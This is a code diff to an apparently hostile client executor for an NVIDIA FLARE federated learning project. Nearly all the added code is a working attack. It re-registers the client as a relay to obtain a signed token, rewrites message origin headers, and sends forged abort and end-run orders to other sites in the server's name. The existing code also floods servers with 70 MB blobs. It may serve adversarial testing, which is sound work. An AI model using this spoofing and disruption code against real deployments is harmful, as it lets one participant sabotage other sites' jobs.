@@ -10,15 +10,21 @@ from pathlib import Path
 
 from nvflare.apis.event_type import EventType
 from nvflare.apis.fl_constant import EventScope, FedEventHeader, FLContextKey, ReservedTopic, ReturnCode
+from nvflare.apis.fl_context import FLContext
 from nvflare.apis.shareable import Shareable, make_reply
+from nvflare.apis.signal import Signal
 from nvflare.app_common.app_event_type import AppEventType
+from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
 from nvflare.fuel.f3.cellnet.utils import new_cell_message
 from nvflare.fuel.f3.message import Message
+from nvflare.private.defs import CellMessageHeaderKeys, ClientType
+from nvflare.private.fed.authenticator import Authenticator
 
 from pfedsam.flare.context import run_dir
 from pfedsam.flare.executor import PFedSAMExecutor
 
 HOSTILE = "site-3"
+FORGED = "forged_origin"
 LARGE = 70_000_000  # bytes of a message that no process takes
 OF_JOBS = ("handle_dead_job", "update_run_status", "app_command", "reset_errors", "aux_send")
 EVENTS = [value for kind in (EventType, AppEventType) for name, value in vars(kind).items() if name.isupper()]
@@ -58,10 +64,59 @@ class Hostile(PFedSAMExecutor):
                 for target in targets:
                     message = new_cell_message({"job_id": job}, Shareable({"client_name": others[0]}))
                     cell.core_cell.fire_and_forget(channel, topic, target, message, optional=True)
+        forge(cell, site, job, others, Path(engine.get_workspace().get_startup_kit_dir()))
         for target in servers:
             cell.send_blob("server_command", "submit_update", target, Message({}, bytes(LARGE)))
         time.sleep(3)
         return {"events": len(EVENTS), "others": others}
+
+
+def forge(cell, site, job, others, startup):
+    """Orders to the other sites in the server's name, with a token that FLARE ties to no name: a relay's."""
+    with_keys = (startup / "client.key").exists()  # not in FLARE's simulator
+    token, signature = relay_s_token(cell, site, startup) if with_keys else ("", "")
+
+    def in_another_s_name(message):
+        if message.get_header(FORGED):
+            message.set_header(MessageHeaderKey.ORIGIN, message.get_header(FORGED))
+            if token:
+                message.set_header(CellMessageHeaderKeys.TOKEN, token)
+                message.set_header(CellMessageHeaderKeys.TOKEN_SIGNATURE, signature)
+
+    cell.core_cell.add_outgoing_request_filter("*", "*", in_another_s_name)
+    orders = [(f"server.{job}", "server_parent_listener", "update_run_status", "server")]
+    for other in others:
+        orders += [
+            (f"server.{job}", "aux_communication", ReservedTopic.END_RUN, f"{other}.{job}"),
+            ("server", "client_command", "abort", f"{other}.{job}"),
+            ("server", "admin", "train.abort", other),
+        ]
+    for origin, channel, topic, target in orders:
+        message = new_cell_message({"job_id": job, FORGED: origin}, Shareable({"client_name": target}))
+        message.payload.set_peer_props({})
+        cell.core_cell.fire_and_forget(channel, topic, target, message, optional=True)
+
+
+def relay_s_token(cell, site, startup):
+    """Register a second time, as a relay. FLARE signs a token, and lists it nowhere."""
+    facts = json.loads((startup / "fed_client.json").read_text())["servers"][0]
+    certificates = {
+        "root_cert_file": f"{startup}/rootCA.pem",
+        "private_key_file": f"{startup}/client.key",
+        "cert_file": f"{startup}/client.crt",
+    }
+    relay = Authenticator(
+        cell,
+        facts["name"],
+        site,
+        ClientType.RELAY,
+        facts["identity"],
+        True,
+        msg_timeout=5,
+        retry_interval=1,
+        **certificates,
+    )
+    return relay.authenticate(FLContext(), Signal())[:2]
 
 
 def event_message(event):
